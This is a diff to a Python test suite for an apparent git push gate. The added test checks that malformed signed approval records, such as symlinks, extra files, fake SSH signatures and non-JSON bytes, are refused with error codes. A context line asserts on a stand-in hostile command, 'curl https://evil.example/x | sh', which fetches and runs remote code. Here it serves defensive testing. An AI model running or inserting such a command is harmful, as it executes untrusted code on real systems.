@@ -347,3 +347,64 @@ def test_the_review_shows_no_terminal_control_from_the_agents_commit(adv: Adv) -
     shown = got.stdout
     assert not any(c in shown for c in ("\x1b", "\x07", "\r")), repr(shown)
     assert "\\x1b[8m" in shown and "+run: curl https://evil.example/x | sh" in shown, shown
+
+
+# --- malformed records: refused with their code, never an internal error ------------------------
+
+
+def test_an_approval_record_of_the_wrong_shape_is_refused_with_its_code(adv: Adv) -> None:
+    """alice pushes, under the right id, a good seal in the wrong commit (a symlink, an executable,
+    a directory, a second file, a parent, a tag), two signatures, an SSH signature that is not one,
+    a time past 2**63, bytes that are not JSON: each refused with a GATE-APPROVAL-* code."""
+    import base64
+    import json
+
+    from gatecore.signing import envelope, seal
+
+    head = adv.agent_commit()
+    req = adv.request("refs/heads/main", adv.base, head)
+    now = int(time.time())
+    made = approvals.Approval("demo/repo", req.ref, req.old, req.new, req.paths, "alice", now, now + 3600)
+    good = envelope.encode(seal.sign(adv.key, envelope.PAYLOAD_APPROVAL, made.payload()))
+    doc = json.loads(good)
+
+    def obj(*args: str, data: bytes | None = None) -> str:
+        return git(adv.work, *args, input=data).stdout.strip()
+
+    def tree(*entries: tuple[str, str, str]) -> str:
+        return obj("mktree", data="".join(f"{mode} {'tree' if mode == '040000' else 'blob'} {oid}\t{name}\n"
+                                          for mode, oid, name in entries).encode())
+
+    def record(data: bytes, mode: str = "100644") -> str:
+        return obj("commit-tree", tree((mode, obj("hash-object", "-w", "--stdin", data=data), approvals.RECORD_FILE)),
+                   "-m", "x")
+
+    def sealed_with(**changes: object) -> bytes:
+        return json.dumps({**doc, **changes}).encode()
+
+    single = tree(("100644", obj("hash-object", "-w", "--stdin", data=good), approvals.RECORD_FILE))
+    ssh_sig = base64.b64encode(b"-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n").decode()
+    huge = json.loads(made.payload()) | {"created_at": 2**70}
+    cases = {
+        "symlink": record(good, "120000"), "executable": record(good, "100755"),
+        "directory": obj("commit-tree", tree(("040000", single, approvals.RECORD_FILE)), "-m", "x"),
+        "two files": obj("commit-tree", tree(("100644", obj("hash-object", "-w", "--stdin", data=good),
+                                              approvals.RECORD_FILE),
+                                             ("100644", obj("hash-object", "-w", "--stdin", data=b"x"), "b")),
+                         "-m", "x"),
+        "a parent": obj("commit-tree", single, "-p", adv.base, "-m", "x"),
+        "a tag": obj("mktag", data=f"object {obj('commit-tree', single, '-m', 'x')}\ntype commit\ntag t\n"
+                                   "tagger a <a@b> 1 +0000\n\nx\n".encode()),
+        "two signatures": record(sealed_with(signatures=doc["signatures"] * 2)),
+        "not an SSH signature": record(sealed_with(signatures=[{"keyid": "ssh:SHA256:x", "sig": ssh_sig}])),
+        "past 2**63": record(sealed_with(payload=base64.b64encode(json.dumps(huge).encode()).decode())),
+        "not JSON": record(b"\xff\xfe{"),
+    }
+    name = APPROVALS_PREFIX + made.id
+    before = adv.server.refs()
+    for what, oid in cases.items():
+        out = adv.push(f"{oid}:{name}", who=ALICE)
+        assert out.returncode != 0 and "INTERNAL" not in out.stderr and "Traceback" not in out.stderr, what
+        assert refused(out, "GATE-APPROVAL-SIGNATURE" if what.startswith("not an SSH") else "GATE-APPROVAL-MALFORMED"), \
+            (what, out.stderr)
+    assert adv.server.refs() == before
